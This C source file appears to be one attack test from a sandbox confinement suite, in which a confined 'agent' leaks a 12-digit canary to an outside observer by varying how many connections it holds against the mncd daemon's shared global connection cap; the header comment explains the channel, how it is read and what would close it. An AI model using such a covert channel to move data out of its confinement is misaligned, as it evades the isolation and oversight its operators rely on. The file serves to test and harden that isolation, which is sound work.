// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* covert_mncd_client_cap - [covert] mncd's global connection cap as a shared counter. An
 * agent's connections count against max_clients_per_agent (64) and against max_clients (1024),
 * which every client shares. An outsider that holds all but a few of the global slots (one
 * other uid is capped at max_clients_per_uid = 256: four uids suffice; root here) learns how
 * many connections the agent holds by how many more of its own mncd accepts. The tainted agent
 * holds v connections (0..15, each confirmed with a whoami) per 4-bit symbol of the canary's
 * 12 hex digits and waits at sync sN; the agent sends nothing that carries data.
 * Verifier: at sync "fill" the orchestrator opens connections until mncd refuses one (the cap
 * line instead of a whoami answer), then closes 16 of them; at each sN it opens connections
 * until refused: 16 - accepted is the symbol; it closes the probes again. The 12 symbols read
 * back as hex are the canary.
 * What would close it: connection pools that do not share a limit with agents (max_clients at
 * least the sum of what the per-agent and per-uid caps allow, or slots reserved per agent), so
 * no client's acceptance depends on an agent's connections. Bandwidth: 4 bits (up to
 * log2(64) = 6) per probe, a probe is tens of connects: ~10^2-10^3 bits/s (not measured).
 * ATK_NO_CONTROL: the unconfined control is not an agent (its connections count per uid). */
#include <sys/resource.h>
#include <time.h>

#include "atk.h"

#define MAXC 1400
static int held[MAXC];
static int nheld;

static void pause_ms(long ms)
{
    struct timespec ts = {ms / 1000, (ms % 1000) * 1000000};
    nanosleep(&ts, NULL);
}

static int agent(struct atk_ctx *c)
{
    int fds[16];
    int n = 0;
    atk_sync(c, "fill");
    for (int i = 0; i < 12; i++) {
        unsigned v;
        if (sscanf(c->secret + 2 + i, "%1x", &v) != 1)
            break;
        while (n < (int)v) {
            char resp[4096];
            int fd = atk_mncd(c);
            if (fd < 0 || atk_call(fd, "{\"verb\":\"whoami\"}", resp, sizeof(resp)) < 0 ||
                !strstr(resp, "\"ok\":true")) {
                atk_note(c, "connection %d: %s", n, fd < 0 ? atk_errname(errno) : "refused");
                return 0;
            }
            fds[n++] = fd;
        }
        if (n > (int)v) {
            while (n > (int)v)
                close(fds[--n]);
            pause_ms(30); /* mncd sees the closes */
        }
        char tag[8];
        snprintf(tag, sizeof(tag), "s%d", i);
        atk_sync(c, tag);
    }
    while (n > 0)
        close(fds[--n]);
    atk_note(c, "12 symbols through the number of mncd connections held");
    return 0;
}

/* one more connection of the orchestrator: 1 accepted (kept in held[]), 0 refused, -1 error */
static int one(void)
{
    const char *sock = getenv("MNC_SOCKET");
    char resp[4096];
    if (!sock || nheld >= MAXC)
        return -1;
    int fd = atk_unix(SOCK_STREAM, sock);
    if (fd < 0)
        return -1;
    if (atk_call(fd, "{\"verb\":\"whoami\"}", resp, sizeof(resp)) < 0 || !strstr(resp, "\"ok\":true")) {
        close(fd);
        return 0;
    }
    held[nheld++] = fd;
    return 1;
}

static void on_sync(struct atk_ctx *c, const char *tag)
{
    if (strcmp(tag, "fill") == 0) {
        struct rlimit rl = {4096, 4096};
        setrlimit(RLIMIT_NOFILE, &rl);
        while (one() == 1)
            ;
        for (int k = 0; k < 16 && nheld > 0; k++)
            close(held[--nheld]);
        c->slot[4] = nheld;
        pause_ms(50);
        return;
    }
    int i = tag[0] == 's' ? atoi(tag + 1) : -1;
    if (i < 0 || i > 11)
        return;
    int base = nheld, a = 0;
    while (a < 20 && one() == 1)
        a++;
    while (nheld > base)
        close(held[--nheld]);
    pause_ms(30);
    char *got = (char *)&c->slot[0]; /* 12 hex digits + NUL in slot[0..1] */
    int v = 16 - a;
    got[i] = v >= 0 && v < 16 ? "0123456789abcdef"[v] : '?';
    got[12] = 0;
    if (i == 11) {
        if (strncmp(got, c->canary + 2, 12) == 0)
            atk_evidence(c, "the orchestrator (%ld connections held) read the canary from how many more mncd accepted",
                         c->slot[4]);
        else {
            size_t l = strlen(c->notes);
            snprintf(c->notes + l, sizeof(c->notes) - l, "%sread %s", l ? ", " : "", got);
        }
    }
}

static void release(struct atk_ctx *c)
{
    (void)c;
    while (nheld > 0)
        close(held[--nheld]);
}

static const struct atk A = {"covert_mncd_client_cap",
                             "how many connections the agent holds, read by an outsider from mncd's global "
                             "max_clients cap",
                             ATK_COVERT | ATK_NO_CONTROL,
                             NULL,
                             agent,
                             on_sync,
                             release,
                             release};
ATK_MAIN(A)
